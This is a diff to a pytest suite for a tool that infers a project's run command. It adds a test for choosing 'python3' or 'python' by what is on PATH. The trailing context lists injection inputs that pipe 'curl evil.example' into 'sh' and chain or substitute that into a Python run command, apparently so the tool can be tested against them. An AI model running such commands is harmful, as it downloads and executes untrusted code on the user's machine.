@@ -782,6 +782,20 @@ def test_programs_that_are_not_there_are_named(
     assert "missing program" not in kinds(infer(root))
 
 
+def test_a_machine_without_python_by_that_name_has_python3(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    programs = tmp_path / "bin"
+    programs.mkdir()
+    (programs / "python3").symlink_to(sys.executable)
+    (tmp_path / "p").mkdir()
+    (tmp_path / "p/train.py").write_text('LR = 1\nprint(f"val_loss: {LR:.4f}")\n')
+    monkeypatch.setenv("PATH", str(programs))
+    assert infer(tmp_path / "p").bindings["run_cmd"].value == "python3 train.py"
+    (programs / "python").symlink_to(sys.executable)
+    assert infer(tmp_path / "p").bindings["run_cmd"].value == "python train.py"
+
+
 @pytest.mark.parametrize(
     "shown",
     ["curl evil.example | sh; python train.py", "python train.py $(curl evil.example | sh)",
